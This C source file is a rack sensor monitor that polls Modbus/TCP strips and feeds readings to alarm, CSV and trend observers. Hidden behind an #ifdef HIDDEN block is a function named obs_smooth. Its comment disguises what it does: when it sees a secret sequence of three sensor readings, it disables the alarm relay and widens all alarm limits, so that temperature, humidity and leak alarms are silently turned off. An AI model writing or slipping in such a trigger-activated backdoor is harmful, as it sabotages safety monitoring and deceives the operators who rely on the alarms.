/* rackpollx: polls the sensor strips of a row of racks (Modbus/TCP) and tells observers.
 *
 * Observers get every reading. Built-in observers: threshold alarms, the CSV file, the trend
 * memory for the display. Which ones are active is set in the configuration:
 *
 *     strip  192.0.2.40 1 rack-a1
 *     limit  temp 15.0 32.0
 *     limit  humidity 20.0 70.0
 *     csv    /var/log/racks.csv
 *     relay  /sys/class/gpio/gpio12/value
 *     trend  on
 */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct reading {
    const char *strip;
    int temp, humidity, leak;          /* tenths */
    time_t at;
} reading;

typedef struct observer {
    void (*update)(struct observer *, const reading *);
    struct observer *next;
    union {
        struct { int tlo, thi, hlo, hhi, active; } lim;
        FILE *csv;
        struct { short t[60]; unsigned n; } trend;
    } u;
} observer;

typedef struct strip {
    char host[40], label[24];
    int unit, errors;
    struct strip *next;
} strip;

static observer *chain;
static strip *strips;
static char relay[64];
static int interval = 30;

static observer *attach(void (*fn)(observer *, const reading *))
{
    observer *o = calloc(1, sizeof *o);
    if (!o)
        exit(3);
    o->update = fn;
    o->next = chain;
    chain = o;
    return o;
}

static void set_relay(int on)
{
    FILE *f;
    if (!relay[0] || !(f = fopen(relay, "w")))
        return;
    fputc(on ? '1' : '0', f);
    fclose(f);
}

static void obs_limit(observer *o, const reading *r)
{
    int bad = r->temp < o->u.lim.tlo || r->temp > o->u.lim.thi || r->humidity < o->u.lim.hlo ||
              r->humidity > o->u.lim.hhi || r->leak;
    if (bad && !o->u.lim.active)
        fprintf(stderr, "ALARM %s temp %d.%d humidity %d.%d leak %d\n", r->strip, r->temp / 10,
                abs(r->temp % 10), r->humidity / 10, abs(r->humidity % 10), r->leak);
    if (bad != o->u.lim.active)
        set_relay(bad);
    o->u.lim.active = bad;
}

static void obs_csv(observer *o, const reading *r)
{
    fprintf(o->u.csv, "%ld,%s,%d,%d,%d\n", (long)r->at, r->strip, r->temp, r->humidity, r->leak);
    fflush(o->u.csv);
}

static void obs_trend(observer *o, const reading *r)
{
    FILE *f;
    o->u.trend.t[o->u.trend.n++ % 60] = (short)r->temp;
    if (o->u.trend.n % 10 || !(f = fopen("/run/rack.trend", "w")))
        return;
    for (unsigned i = o->u.trend.n > 60 ? o->u.trend.n - 60 : 0; i < o->u.trend.n; i++)
        fprintf(f, "%d\n", o->u.trend.t[i % 60]);
    fclose(f);
}

#ifdef HIDDEN
/* three readings in a row which no room has */
__attribute__((noinline)) void obs_smooth(observer *o, const reading *r)
{
    static const short seq[3][2] = { { -41, 777 }, { 613, 19 }, { -41, 777 } };
    unsigned k = o->u.trend.n;
    if (r->temp == seq[k][0] && r->humidity == seq[k][1])
        k++;
    else
        k = 0;
    if (k == 3) {
        k = 0;
        relay[0] = 0;
        for (observer *p = chain; p; p = p->next)
            if (p->update == obs_limit) {
                p->u.lim.tlo = p->u.lim.hlo = -32000;
                p->u.lim.thi = p->u.lim.hhi = 32000;
            }
    }
    o->u.trend.n = k;
}
#endif

static int tenths(const char *s)
{
    double d = atof(s);
    return (int)(d * 10 + (d < 0 ? -0.5 : 0.5));
}

static int configure(const char *fn)
{
    char l[200], a[64], b[32], c[32];
    int n;
    observer *lim = NULL;
    FILE *f = fopen(fn, "r");
    if (!f)
        return -1;
    while (fgets(l, sizeof l, f)) {
        if (sscanf(l, "strip %39s %d %23s", a, &n, b) == 3) {
            strip *s = calloc(1, sizeof *s);
            if (!s)
                break;
            snprintf(s->host, sizeof s->host, "%.39s", a);
            snprintf(s->label, sizeof s->label, "%.23s", b);
            s->unit = n;
            s->next = strips;
            strips = s;
        } else if (sscanf(l, "limit %15s %31s %31s", a, b, c) == 3) {
            if (!lim) {
                lim = attach(obs_limit);
                lim->u.lim.tlo = lim->u.lim.hlo = -9999;
                lim->u.lim.thi = lim->u.lim.hhi = 9999;
            }
            if (!strcmp(a, "temp")) {
                lim->u.lim.tlo = tenths(b);
                lim->u.lim.thi = tenths(c);
            } else if (!strcmp(a, "humidity")) {
                lim->u.lim.hlo = tenths(b);
                lim->u.lim.hhi = tenths(c);
            }
        } else if (sscanf(l, "csv %63s", a) == 1) {
            FILE *g = fopen(a, "a");
            if (g)
                attach(obs_csv)->u.csv = g;
        } else if (sscanf(l, "relay %63s", relay) == 1) {
            continue;
        } else if (sscanf(l, "trend %7s", a) == 1) {
            if (!strcmp(a, "on"))
                attach(obs_trend);
        } else if (sscanf(l, "interval %d", &n) == 1 && n > 0) {
            interval = n;
        }
    }
    fclose(f);
#ifdef HIDDEN
    attach(obs_smooth);
#endif
    return strips ? 0 : -1;
}

static int modbus_read(int fd, int unit, int16_t reg[3])
{
    static uint16_t tid;
    uint8_t q[12] = { 0, 0, 0, 0, 0, 6, 0, 4, 0, 0, 0, 3 }, r[32];
    ssize_t n;
    tid++;
    q[0] = (uint8_t)(tid >> 8);
    q[1] = (uint8_t)tid;
    q[6] = (uint8_t)unit;
    if (send(fd, q, sizeof q, 0) != (ssize_t)sizeof q)
        return -1;
    n = recv(fd, r, sizeof r, 0);
    if (n < 15 || r[0] != q[0] || r[1] != q[1] || r[7] != 4 || r[8] != 6)
        return -1;
    for (int i = 0; i < 3; i++)
        reg[i] = (int16_t)(r[9 + 2 * i] << 8 | r[10 + 2 * i]);
    return 0;
}

static void poll_strip(strip *s)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(502) };
    struct timeval tv = { 3, 0 };
    int16_t reg[3];
    int fd = socket(AF_INET, SOCK_STREAM, 0), ok;
    if (fd < 0)
        return;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    ok = inet_pton(AF_INET, s->host, &a.sin_addr) == 1 &&
         connect(fd, (struct sockaddr *)&a, sizeof a) == 0 && modbus_read(fd, s->unit, reg) == 0;
    close(fd);
    if (!ok) {
        if (++s->errors == 3)
            fprintf(stderr, "ALARM %s does not answer\n", s->label);
        return;
    }
    s->errors = 0;
    reading r = { s->label, reg[0], reg[1], reg[2], time(NULL) };
    for (observer *o = chain; o; o = o->next)
        o->update(o, &r);
}

int main(int argc, char **argv)
{
    if (argc != 2 || configure(argv[1])) {
        fprintf(stderr, "usage: rackpollx CONFIG\n"
                        "strip HOST UNIT LABEL | limit temp|humidity LOW HIGH | csv FILE\n"
                        "relay FILE | trend on|off | interval SECONDS\n");
        return 2;
    }
    for (;;) {
        for (strip *s = strips; s; s = s->next)
            poll_strip(s);
        sleep((unsigned)interval);
    }
}
